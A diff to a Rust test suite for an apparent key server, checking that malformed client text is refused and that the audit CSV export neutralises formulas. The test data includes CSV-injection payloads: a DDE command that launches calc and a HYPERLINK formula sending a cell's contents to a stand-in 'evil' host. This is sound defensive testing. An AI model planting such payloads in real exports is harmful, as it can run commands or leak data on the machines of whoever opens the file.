@@ -519,25 +519,64 @@ fn resetting_the_binding_or_stretching_a_session_is_refused(backend: Backend) {
     assert_verify_fails(&ks, &[], "binding to its keyring was reset");
 }
 
-/// Text a client sends lands in events (an unknown key id, an address); a
-/// NUL or a line break in it must neither stop the log (PostgreSQL refuses
-/// NUL in text, which would fail a whole batch) nor forge a line.
+/// Text a client sends could land in events (an unknown key id, a device
+/// id, an address): what is not well formed is refused or left out, so
+/// nothing can stop the log (PostgreSQL refuses NUL in text, which would
+/// fail a whole batch), forge a line, or run as a formula when an exported
+/// CSV is opened in a spreadsheet.
 fn hostile_text_in_a_request_never_stops_the_log(backend: Backend) {
     let ks = hospital(backend);
     let alice = ks.login("alice@st.example", "alice-password-1", "alice-phone");
-    let r = alice.get("/v1/keys/k_%00%0A%3DHYPERLINK(%22x%22)");
-    assert_eq!(r.status, 404, "{}", r.body);
+    for path in [
+        "/v1/keys/k_%00%0A%3DHYPERLINK(%22x%22)",
+        "/v1/keys/=1+cmd|%22%2FC%20calc%22!A0",
+    ] {
+        let r = alice.get(path);
+        assert_eq!(r.status, 404, "{}", r.body);
+    }
+    // A formula as a device id, and as an address, are refused before
+    // anything is counted or recorded.
+    let c = Client::new(&ks.base, "x");
+    let r = c.post(
+        "/v1/sessions",
+        &json!({"email": "alice@st.example", "password": "x", "device_id": "=HYPERLINK(\"https://evil/?d=\"&C2;\"Verify\")"}),
+    );
+    assert_eq!(r.status, 400, "{}", r.body);
+    let r = c.post(
+        "/v1/sessions",
+        &json!({"email": "=HYPERLINK(\"x\")@evil", "password": "x", "device_id": "x"}),
+    );
+    assert_eq!(r.status, 400, "{}", r.body);
+    // An address that is valid but starts like a formula is recorded, and
+    // exported as text.
+    let r = c.post(
+        "/v1/sessions",
+        &json!({"email": "=cmd@evil.example", "password": "x", "device_id": "x"}),
+    );
+    assert_eq!(r.status, 401, "{}", r.body);
     // The log still takes changes…
     new_key(&alice, "after-nul", &["bob@other.example"]);
-    // …and kept the refusal, with the control characters replaced.
+    // …and kept the refusals without the client's text.
     let denied: Vec<Value> = events(&ks)
         .into_iter()
         .filter(|e| e["action"] == "key.denied")
         .collect();
-    assert_eq!(denied.len(), 1);
-    let id = denied[0]["key_id"].as_str().unwrap();
-    assert!(!id.chars().any(char::is_control), "{id:?}");
-    assert!(id.contains('\u{fffd}'), "{id:?}");
+    assert_eq!(denied.len(), 2);
+    for d in &denied {
+        assert!(d["key_id"].is_null(), "{d}");
+        assert_eq!(d["detail"], "malformed key id");
+    }
+    let csv = ks.admin_ok(&["audit", "export", "--format", "csv"]);
+    assert!(csv.contains("'=cmd@evil.example"), "{csv}");
+    for line in csv.lines().skip(1) {
+        for cell in line.split(',') {
+            let cell = cell.trim_start_matches('"');
+            assert!(
+                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "a cell a spreadsheet would run: {line}"
+            );
+        }
+    }
     assert_verify_passes(&ks, &[]);
     // Proofs of trees the log does not have are refused at once.
     let huge = reqwest::blocking::get(format!(
